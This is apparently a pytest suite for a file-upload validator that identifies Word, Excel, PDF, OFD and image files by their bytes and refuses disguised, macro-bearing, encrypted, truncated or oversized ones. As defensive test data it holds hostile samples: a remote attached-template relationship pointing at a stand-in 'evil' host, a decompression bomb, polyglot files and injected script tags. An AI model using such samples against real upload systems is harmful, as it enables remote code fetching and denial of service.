"""What a file is, judged by all of its bytes, and never by its name alone."""

import io
import zipfile

import pytest

from commons.files.enums import FileKind
from commons.files.errors import Empty, KindRefused
from commons.files.kinds import ACCEPTED, document_kind, sheet_kind
from tests.factories.uploads import DOCX, JPEG, OFD, PDF, PNG, TYPES, XLSX, package


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (PDF, "合同.pdf", FileKind.PDF),
        (PDF, "合同.PDF", FileKind.PDF),
        (DOCX, "合同.docx", FileKind.DOCX),
        (XLSX, "报价.xlsx", FileKind.XLSX),
        (OFD, "批复.ofd", FileKind.OFD),
        (PNG, "证书.png", FileKind.PNG),
        (JPEG, "证书.jpg", FileKind.JPEG),
        (JPEG, "证书.jpeg", FileKind.JPEG),
        (JPEG + b"\x00film behind the picture", "手机照片.jpg", FileKind.JPEG),
    ],
)
def test_an_honest_file_is_what_it_is_and_left_at_its_beginning(content: bytes, name: str, kind: FileKind) -> None:
    file = io.BytesIO(content)

    assert document_kind(file, name) is kind

    assert file.tell() == 0


def sealed(content: bytes) -> bytes:
    """With the mark of encryption on its first part."""
    at = content.index(b"PK\x01\x02") + 8
    return content[:at] + bytes([content[at] | 1]) + content[at + 1 :]


def twice() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(TYPES, b"<x/>")
        archive.writestr("word/document.xml", b"<x/>")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("word/document.xml", b"<y/>")
    return made.getvalue()


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in (TYPES, "word/document.xml"):
            archive.writestr(part, b"<x/>")
        archive.writestr("word/media/bomb", b"\x00" * (121 * 1024 * 1024))
    return made.getvalue()


TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
MACROS = "文件含有宏、控件或外部模板，请另存为不含宏的 .docx 或 .xlsx，或导出 PDF 后再上传。"
BROKEN = "文件已损坏，请用 Word、Excel 或 WPS 打开后另存一份再上传。"
HIDDEN = f"文件里还藏有另一种文件，请重新导出后再上传。{ACCEPTED}"
PICTURE = "图片不完整，请重新导出或拍摄后再上传。"


@pytest.mark.parametrize(
    ("content", "name", "problem"),
    [
        # Of no accepted kind, whatever the name says.
        (b"<script>alert(1)</script>", "合同.pdf", ACCEPTED),
        (b"MZ\x90\x00 a program", "合同.pdf", ACCEPTED),
        (b"GIF89a", "动画.gif", ACCEPTED),
        (b"plain text", "说明.txt", ACCEPTED),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "图.svg", ACCEPTED),
        (package("readme.txt"), "资料.zip", f"这是压缩包或其他文件，{ACCEPTED}"),
        (package("word/document.xml"), "合同.docx", f"这是压缩包或其他文件，{ACCEPTED}"),
        (package(TYPES, "ppt/presentation.xml"), "汇报.pptx", f"这是压缩包或其他文件，{ACCEPTED}"),
        (package(TYPES, "word/document.xml", "xl/workbook.xml"), "合同.docx", f"这是压缩包或其他文件，{ACCEPTED}"),
        # Macros and what fetches them.
        (package(TYPES, "word/document.xml", "word/vbaProject.bin"), "合同.docx", MACROS),
        (package(TYPES, "xl/workbook.xml", "xl/activeX/activeX1.xml"), "报价.xlsx", MACROS),
        (package({TYPES: b"ms-word.document.macroEnabled.main+xml"}, "word/document.xml"), "合同.docx", MACROS),
        (package(TYPES, "word/document.xml", {"word/_rels/settings.xml.rels": TEMPLATE}), "合同.docx", MACROS),
        # Broken, sealed, too large.
        (DOCX[:40], "合同.docx", BROKEN),
        (twice(), "合同.docx", BROKEN),
        (sealed(DOCX), "合同.docx", "文件已加密，请去掉密码后再上传。"),
        (bomb(), "合同.docx", "文件解压后过大，请只保留需要的内容后再上传。"),
        (PDF[:-6], "合同.pdf", "PDF 不完整，请重新导出或扫描后再上传。"),
        (PNG[:-13], "证书.png", PICTURE),
        (JPEG[:-2], "证书.jpg", PICTURE),
        # One file that is another to another program.
        (PDF + package("x.html"), "合同.pdf", HIDDEN),
        (PNG + package("x.class"), "证书.png", HIDDEN),
        (JPEG + package("x.class"), "证书.jpg", HIDDEN),
        (PNG[:33] + b"%PDF-1.4" + PNG[33:], "证书.png", PICTURE),
        (JPEG[:20] + b"%PDF-1.4" + JPEG[20:], "证书.jpg", HIDDEN),
        (JPEG[:20] + b"<script>" + JPEG[20:], "证书.jpg", HIDDEN),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old",
            "合同.doc",
            "这是旧版 Office（.doc、.xls）或加密的文件，请另存为不加密的 .docx、.xlsx 或 PDF 后再上传。",
        ),
    ],
)
def test_a_hostile_or_foreign_file_is_refused_with_what_to_do(content: bytes, name: str, problem: str) -> None:
    with pytest.raises(KindRefused) as refused:
        document_kind(io.BytesIO(content), name)

    assert refused.value.message == f"无法接收这个文件：{problem}"


@pytest.mark.parametrize("name", ["合同.docx", "合同.pdf.exe", "合同", "pdf", ""])
def test_a_name_that_ends_otherwise_is_refused(name: str) -> None:
    with pytest.raises(KindRefused) as refused:
        document_kind(io.BytesIO(PDF), name)

    assert refused.value.message == (
        "无法接收这个文件：内容是“PDF 文件”，文件名却不是以 .pdf 结尾。请核对是否选错了文件，改正文件名后再上传。"
        + ACCEPTED
    )


def test_only_what_is_accepted_here() -> None:
    with pytest.raises(KindRefused) as refused:
        document_kind(io.BytesIO(PNG), "证书.png", accepted={FileKind.PDF, FileKind.DOCX})

    assert refused.value.message == "无法接收这个文件：只接收：Word 文档、PDF 文件。"


@pytest.mark.parametrize("content", [b"", b" \r\n"])
def test_an_empty_file_is_refused(content: bytes) -> None:
    with pytest.raises(Empty):
        document_kind(io.BytesIO(content), "空.pdf")


def test_a_document_is_no_sheet() -> None:
    with pytest.raises(KindRefused) as refused:
        sheet_kind(io.BytesIO(DOCX))

    assert refused.value.message == "无法接收这个文件：这不是 Excel 工作簿，只接收 .xlsx 或 .csv 表格。"
